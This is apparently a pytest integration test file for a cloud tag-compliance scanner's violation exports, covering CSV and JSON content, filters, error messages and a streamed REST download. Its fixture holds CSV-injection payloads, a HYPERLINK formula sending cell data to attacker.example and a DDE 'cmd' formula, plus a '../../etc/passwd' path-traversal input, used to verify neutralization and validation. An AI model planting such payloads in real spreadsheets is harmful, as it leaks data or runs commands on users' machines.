"""Violation exports of a real scan (moto + embedded worker): every column filled, counts, order, filters,
column checks with suggestions, spreadsheet-formula safety, the bounded MCP answer (inline or by
reference) and the streamed REST download, which must equal the full export."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from services import exports, scans
from services.errors import InvalidInput, NotFound
from services.schemas import ScanRequest, ScanResult, ViolationOut
from tests.integration.conftest import member_volume, module_runtime, wait_scan

pytestmark = pytest.mark.integration

# Tag values that a spreadsheet would run as formulas (CSV injection), one per leading character.
FORMULAS = {"CostCenter": '=HYPERLINK("http://attacker.example/?x="&A1,"open")', "Owner": "@SUM(1+1)*cmd",
            "Environment": "+1+cmd|' /C calc'!A0"}
# Cells that always have a value on every violation (current_value, allowed_values, suggestion and
# rule_source may be legitimately empty).
ALWAYS_SET = ("resource_arn", "resource_id", "resource_type", "account_id", "region", "tag_name", "violation_type",
              "severity", "message")


@dataclass
class Scanned:
    rt: Any
    org: Any
    result: ScanResult
    hostile_arn: str
    violations: list[ViolationOut]

    @property
    def scan_id(self) -> str:
        return self.result.scan_id


@pytest.fixture(scope="module")
def scanned(emulator: Any, embedded_worker: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scanned]:
    """One seeded and scanned organization for the whole module: exports only read the database."""
    from scanner.emulator.demo_estate import seed_demo_organization

    with module_runtime(emulator, tmp_path_factory.mktemp("exports")) as rt:
        org = seed_demo_organization(emulator.endpoint_url, scale=0.34)
        # An EBS volume in a member account whose tag values are spreadsheet formulas.
        hostile = member_volume(emulator.endpoint_url, org.member_account_ids[0], org.regions[0], FORMULAS,
                                session_name="export-test")
        scan_id = scans.submit(rt, ScanRequest(accounts=list(org.member_account_ids), regions=list(org.regions)))
        result = wait_scan(rt, scan_id, timeout=180)
        assert result.status == "succeeded", result.data_quality
        yield Scanned(rt, org, result, hostile, list(scans.iter_violations(rt, scan_id)))


def _guarded(value: str) -> str:
    """What a spreadsheet-safe cell holds for ``value``: a leading quote before a formula character."""
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _export(scanned: Scanned, **kw: Any) -> tuple[exports.ExportSpec, str]:
    spec = exports.prepare(scanned.rt, **kw)
    return spec, exports.render(scanned.rt, spec)


# ------------------------------------------------------------------------------------------- content

def test_csv_has_every_violation_with_every_column_filled(scanned: Scanned) -> None:
    spec, text = _export(scanned)  # the latest finished scan, csv, default columns
    assert spec.scan_id == scanned.scan_id and spec.format == "csv" and spec.filename.endswith(".csv")
    rows = _csv(text)
    assert text.splitlines()[0] == ",".join(exports.DEFAULT_COLUMNS)
    assert len(rows) == spec.row_count == scanned.result.violations_total > 100
    for row in rows:
        assert None not in row and all(value is not None for value in row.values()), row  # no short line
        assert all(row[c] for c in ALWAYS_SET), row
        assert row["resource_arn"].startswith("arn:aws:")
    # Same violations, same order as the scan's own paging (errors first, then ARN, then rule).
    expected = scanned.violations
    assert [(r["resource_arn"], r["tag_name"], r["violation_type"]) for r in rows] == [
        (v.resource_arn, v.tag_name, v.violation_type) for v in expected]
    assert rows[0]["severity"] == "error" and rows[-1]["severity"] == "warning"
    for row, v in zip(rows, expected, strict=True):
        assert row["allowed_values"] == "|".join(v.allowed_values or [])
        assert row["current_value"] == _guarded(v.current_value or "")
        assert row["suggestion"] == _guarded(v.suggestion or "")
    assert any(r["allowed_values"] and r["current_value"] for r in rows)
    assert exports.render(scanned.rt, spec) == text  # deterministic


def test_json_export_has_the_same_rows_and_native_values(scanned: Scanned) -> None:
    columns = ["resource_arn", "tag_name", "current_value", "allowed_values", "rule_source"]
    spec, text = _export(scanned, scan_id=scanned.scan_id, format="json", columns=columns)
    data = json.loads(text)
    assert spec.media_type == "application/json"
    assert data["scan_id"] == scanned.scan_id and data["scan_status"] == "succeeded"
    assert data["columns"] == columns and data["data_quality"]["status"] == "complete"
    assert data["row_count"] == len(data["violations"]) == scanned.result.violations_total
    assert all(list(row) == columns for row in data["violations"])
    assert [(r["resource_arn"], r["tag_name"]) for r in data["violations"]] == [
        (v.resource_arn, v.tag_name) for v in scanned.violations]
    with_list = next(r for r in data["violations"] if r["allowed_values"])
    assert isinstance(with_list["allowed_values"], list)
    assert any(r["current_value"] is None for r in data["violations"])  # JSON says "absent" as null
    # An empty result is still a valid document.
    empty = json.loads(exports.render(scanned.rt, exports.prepare(
        scanned.rt, format="json", tag_names=["ZoneOfNoViolation"])))
    assert empty["row_count"] == 0 and empty["violations"] == []


def test_filters_select_exactly_the_matching_violations(scanned: Scanned) -> None:
    everything = scanned.violations
    account, region = scanned.org.member_account_ids[0], scanned.org.regions[0]
    by_type = scanned.result.breakdowns.by_resource_type

    cases: list[tuple[dict[str, Any], Any]] = [
        ({"severity": "errors_only"}, lambda v: v.severity == "error"),
        ({"severity": "warning"}, lambda v: v.severity == "warning"),
        ({"resource_types": ["ec2:instance", "s3:bucket"]}, lambda v: v.resource_type in ("ec2:instance", "s3:bucket")),
        ({"resource_types": ["ec2:volume,s3:bucket"]}, lambda v: v.resource_type in ("ec2:volume", "s3:bucket")),
        ({"accounts": [account], "regions": [region]}, lambda v: v.account_id == account and v.region == region),
        ({"tag_names": ["Owner", "Environment"], "severity": "all"}, lambda v: v.tag_name in ("Owner", "Environment")),
        ({"resource_types": ["all"]}, lambda v: True),
    ]
    for kw, keep in cases:
        spec, text = _export(scanned, **kw)
        rows = _csv(text)
        wanted = [v for v in everything if keep(v)]
        assert wanted, kw
        assert spec.row_count == len(rows) == len(wanted), kw
        assert [r["resource_arn"] for r in rows] == [v.resource_arn for v in wanted], kw
    two = exports.prepare(scanned.rt, resource_types=["ec2:instance", "s3:bucket"])
    assert two.row_count == by_type["ec2:instance"].violations + by_type["s3:bucket"].violations
    assert two.filters()["resource_types"] == ["ec2:instance", "s3:bucket"]


def test_formula_tag_values_are_neutralized_in_csv(scanned: Scanned) -> None:
    rows = _csv(_export(scanned, columns=["resource_arn", "tag_name", "current_value", "message", "suggestion"])[1])
    hostile = {r["tag_name"]: r for r in rows if r["resource_arn"] == scanned.hostile_arn}
    assert set(hostile) >= set(FORMULAS)
    for tag, value in FORMULAS.items():
        assert hostile[tag]["current_value"] == "'" + value  # the spreadsheet shows text, runs nothing
    for row in rows:
        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in row.values()), row
    raw = json.loads(_export(scanned, format="json", columns=["resource_arn", "tag_name", "current_value"])[1])
    assert {r["tag_name"]: r["current_value"] for r in raw["violations"]
            if r["resource_arn"] == scanned.hostile_arn}["CostCenter"] == FORMULAS["CostCenter"]  # JSON keeps data


# -------------------------------------------------------------------------------------------- errors

@pytest.mark.parametrize(("kw", "field", "needles"), [
    pytest.param({"columns": ["resource_arn", "resoruce_id"]}, "columns",
                 ["unknown column 'resoruce_id'", "did you mean 'resource_id'?", "rule_source"], id="column-typo"),
    pytest.param({"columns": ["Resource_ARN"]}, "columns", ["did you mean 'resource_arn'?"], id="column-case"),
    pytest.param({"columns": []}, "columns", ["empty"], id="no-columns"),
    pytest.param({"format": "xlsx"}, "format", ["xlsx", "csv or json"], id="format"),
    pytest.param({"severity": "errors"}, "severity", ["did you mean 'error", "errors_only"], id="severity"),
    pytest.param({"resource_types": ["ec2:instanse"]}, "resource_types", ["did you mean 'ec2:instance'?"],
                 id="type-typo"),
    pytest.param({"accounts": ["999999999999"]}, "accounts", ["999999999999", "scan's account"], id="account"),
    pytest.param({"regions": ["us-east-l"]}, "regions", ["did you mean 'us-east-1'?"], id="region"),
    pytest.param({"tag_names": ["costcenter"]}, "tag_names", ["did you mean 'CostCenter'?", "case-sensitive"],
                 id="tag-case"),
    pytest.param({"scan_id": "../../etc/passwd"}, "scan_id", ["not a scan id"], id="malformed-scan"),
])
def test_bad_requests_name_the_field_and_the_fix(scanned: Scanned, kw: dict[str, Any], field: str,
                                                 needles: list[str]) -> None:
    with pytest.raises(InvalidInput) as info:
        exports.prepare(scanned.rt, **kw)
    assert info.value.field == field and info.value.fix
    for needle in needles:
        assert needle in str(info.value), str(info.value)


def test_an_empty_database_has_nothing_to_export(embedded_runtime: Any) -> None:
    with pytest.raises(NotFound) as info:
        exports.prepare(embedded_runtime)
    assert info.value.field == "scan_id" and "an export needs one" in str(info.value)
    with pytest.raises(NotFound):
        exports.prepare(embedded_runtime, scan_id="6f1c9a64-3b8e-4f5e-9a51-1d2a7c1e0b11")


# ------------------------------------------------------------------------------ MCP answer and REST

def test_small_exports_are_inline_and_large_ones_by_reference(scanned: Scanned) -> None:
    from api.mcp.export_tools import INLINE_LIMIT_BYTES, INLINE_MAX_ROWS, _answer

    rt = scanned.rt
    small = _answer(rt, exports.prepare(rt, resource_types=["ec2:volume"], tag_names=["CostCenter"],
                                        accounts=[scanned.org.member_account_ids[0]], regions=[scanned.org.regions[0]]))
    assert small.inline and small.content is not None and small.preview is None and small.note is None
    assert 0 < small.row_count <= INLINE_MAX_ROWS and small.size_bytes == len(small.content.encode())
    assert len(_csv(small.content)) == small.row_count and not small.size_is_estimate

    full = exports.prepare(rt)
    text = exports.render(rt, full)
    large = _answer(rt, full)
    assert not large.inline and large.content is None and large.row_count == scanned.result.violations_total
    assert len(text.encode()) > INLINE_LIMIT_BYTES or large.row_count > INLINE_MAX_ROWS
    assert large.resource_uri == f"export://{scanned.scan_id}/violations.csv"
    assert large.download_path == f"/v1/exports/violations?scan_id={scanned.scan_id}&format=csv"
    assert large.resource_uri in (large.note or "") and large.download_path in (large.note or "")
    assert large.preview is not None and len(large.preview) == 5
    assert [p["resource_arn"] for p in large.preview] == [v.resource_arn for v in scanned.violations[:5]]
    assert abs(large.size_bytes - len(text.encode())) < 0.25 * len(text.encode())  # exact or a fair estimate
    # The answer itself stays bounded whatever the scan's size.
    assert len(large.model_dump_json()) < 5_000

    narrowed = _answer(rt, exports.prepare(rt, format="json", columns=["resource_arn", "tag_name"],
                                           severity="errors_only", tag_names=["Owner"]))
    assert narrowed.resource_uri.startswith(f"export://{scanned.scan_id}/violations.json?")
    assert "columns=resource_arn%2Ctag_name" in narrowed.resource_uri or "columns=resource_arn,tag_name" in \
        narrowed.resource_uri
    assert "severity=error" in narrowed.download_path and "tag_names=Owner" in narrowed.download_path


def test_rest_download_streams_the_full_export(scanned: Scanned) -> None:
    from fastapi.testclient import TestClient

    from api.http.app import create_app
    from api.mcp.export_tools import _answer

    rt = scanned.rt
    spec = exports.prepare(rt)
    answer = _answer(rt, spec)
    with TestClient(create_app(lambda: rt)) as client:
        response = client.get(answer.download_path)
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"] == f'attachment; filename="violations-{scanned.scan_id}.csv"'
        assert response.headers["x-export-row-count"] == str(scanned.result.violations_total)
        assert response.text == exports.render(rt, spec)
        assert len(_csv(response.text)) == scanned.result.violations_total

        narrowed = _answer(rt, exports.prepare(rt, format="json", columns=["resource_arn", "severity"],
                                               severity="errors_only", resource_types=["ec2:volume", "s3:bucket"]))
        data = client.get(narrowed.download_path)
        assert data.status_code == 200 and data.headers["content-type"] == "application/json"
        body = data.json()
        assert body["row_count"] == len(body["violations"]) == narrowed.row_count > 0
        assert Counter(r["severity"] for r in body["violations"]) == Counter({"error": narrowed.row_count})

        repeated = client.get("/v1/exports/violations", params=[("resource_types", "ec2:volume"),
                                                                ("resource_types", "s3:bucket"),
                                                                ("severity", "errors_only"), ("format", "json"),
                                                                ("columns", "resource_arn,severity")])
        assert repeated.json() == body  # repeated and comma-separated parameters mean the same

        bad = client.get("/v1/exports/violations", params={"columns": "resource_arn,resoruce_id"})
        assert bad.status_code == 422
        error = bad.json()["error"]
        assert error["field"] == "columns" and "did you mean 'resource_id'?" in error["fix"]
        assert client.get("/v1/exports/violations", params={"format": "xlsx"}).status_code == 422
        missing = client.get("/v1/exports/violations", params={"scan_id": "6f1c9a64-3b8e-4f5e-9a51-1d2a7c1e0b11"})
        assert missing.status_code == 404 and missing.json()["error"]["field"] == "scan_id"


def test_reading_pages_keeps_memory_flat(scanned: Scanned) -> None:
    """Rows are read a page at a time: a tiny page size walks the same rows in the same order."""
    spec = exports.prepare(scanned.rt)
    paged = [(v.resource_arn, v.rule_id) for v in exports.iter_violations(scanned.rt, spec, page_size=7)]
    assert paged == [(v.resource_arn, v.rule_id) for v in scanned.violations]
